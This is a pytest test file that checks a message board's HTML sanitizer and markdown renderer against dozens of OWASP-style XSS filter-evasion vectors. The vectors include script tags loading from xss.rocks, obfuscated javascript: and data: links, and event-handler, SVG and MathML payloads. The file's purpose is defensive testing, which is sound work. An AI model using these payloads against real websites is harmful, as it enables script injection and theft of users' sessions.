"""The sanitizer against the OWASP XSS filter-evasion vectors, checked by parsing output."""
from __future__ import annotations

import pytest
from helpers_screening import LISTS, QUIET
from safety_screening import assert_safe_html

from board.screening.pipeline import process
from board.screening.render import render_markdown
from board.screening.sanitize import LINK_REL, clean_html

# From the OWASP XSS Filter Evasion Cheat Sheet, plus SVG/MathML and form tricks.
HTML_VECTORS = [
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"%6A%61%76%61%73%63%72%69%70%74:alert(1)\">x</a>",
    "<a href=\"javascript://%0Aalert(1)\">x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<a/href=\"javascript:alert(1)\">x</a>",
    "<a href = javascript:alert(1)>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBSCRIPT:msgbox(1)\">x</a>",
    "<a href=\"livescript:alert(1)\">x</a>",
    "<a href=\"//evil.example/x\">protocol-relative</a>",
    "<a href=\"http://example.org\" onclick=\"alert(1)\" style=\"color:red\" class=x id=y "
    "target=_blank rel=opener>x</a>",
    "<img src=`x` onerror=`alert(1)`>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction>"
    "</math>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
    "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<p style=\"x:expression(alert(1))\">x</p>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" "
    "type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"http://a.com\"<script>alert(1)</script>>x</a>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1)>click</x>",
    "<a href=\"https://example.org\"><img src=x onerror=alert(1)></a>",
    "<strong onmouseover=alert(1)>bold</strong><blockquote cite=javascript:alert(1)>q"
    "</blockquote>",
    "<ul><li onclick=alert(1)>x</li></ul><pre style=x>y</pre><code class=x>z</code>",
]

MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java\\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[x](javascript:alert`1`)",
    "[x](//evil.example)",
    "[x](/relative/path)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)> \"t\"",
    "![x](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "[x](http://a.com\" onclick=\"alert(1))",
    "[x](http://a.com 'title\" onmouseover=\"alert(1)')",
    "[<img src=x onerror=alert(1)>](http://a.com)",
    "**<script>alert(1)</script>**",
    "`<script>` and\n\n```html\n<script>alert(1)</script>\n```",
    "www.example.com/\"onmouseover=\"alert(1)",
    "http://example.com/<script>alert(1)</script>",
    "http://a.com/?q=\"><script>alert(1)</script>",
    "> <iframe src=javascript:alert(1)>\n> - <object data=x>",
    "<div onclick=alert(1)>\n\n*x*\n\n</div>",
    "[a](http://x.com)<span onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]


@pytest.mark.parametrize("vector", HTML_VECTORS + MARKDOWN_VECTORS)
def test_rendered_comment_is_safe(vector: str) -> None:
    assert_safe_html(render_markdown(vector))
    assert_safe_html(process(vector, QUIET, LISTS).html)


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_sanitizer_alone_is_safe(vector: str) -> None:
    # Markdown refuses raw HTML already; the sanitizer must hold on its own as well.
    assert_safe_html(clean_html(vector))


@pytest.mark.parametrize("text, tags", [
    ("**bold** _em_ `code`", ["p", "strong", "em", "code"]),
    ("> quote\n\n- a\n- b\n\n1. c", ["blockquote", "p", "ul", "li", "li", "ol", "li"]),
    ("line  \nbreak", ["p", "br"]),
    ("    indented", ["pre", "code"]),
    ("[x](https://example.org)", ["p", "a"]),
])
def test_allowed_markdown_survives(text: str, tags: list[str]) -> None:
    from safety_screening import _Collector
    parser = _Collector()
    parser.feed(render_markdown(text))
    assert [tag for tag, _ in parser.elements] == tags


@pytest.mark.parametrize("text, href", [
    ("[x](https://example.org/a?b=1&c=2)", "https://example.org/a?b=1&c=2"),
    ("<http://example.org>", "http://example.org"),
    ("see www.example.org today", "http://www.example.org"),
    ("[mail](mailto:team@example.org)", "mailto:team@example.org"),
])
def test_links_keep_safe_urls_and_get_rel(text: str, href: str) -> None:
    from safety_screening import _Collector
    parser = _Collector()
    parser.feed(render_markdown(text))
    links = [dict(attrs) for tag, attrs in parser.elements if tag == "a"]
    assert links == [{"href": href, "rel": LINK_REL}]


def test_links_are_not_made_inside_code() -> None:
    assert "<a" not in render_markdown("`http://example.org`")


@pytest.mark.parametrize("unsafe", [
    "<script>alert(1)</script>",
    "<img src=x>",
    "<a href=\"javascript:alert(1)\" rel=\"nofollow ugc noopener\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\" rel=\"nofollow ugc noopener\">x</a>",
    "<a href=\"/relative\" rel=\"nofollow ugc noopener\">x</a>",
    "<a href=\"http://x.org\" rel=\"nofollow ugc noopener\" onclick=\"y\">x</a>",
    "<a href=\"http://x.org\">no rel</a>",
    "<p style=\"color:red\">x</p>",
    "<!-- comment -->",
    "<svg><p>x</p></svg>",
])
def test_the_checker_itself_catches_unsafe_html(unsafe: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe_html(unsafe)
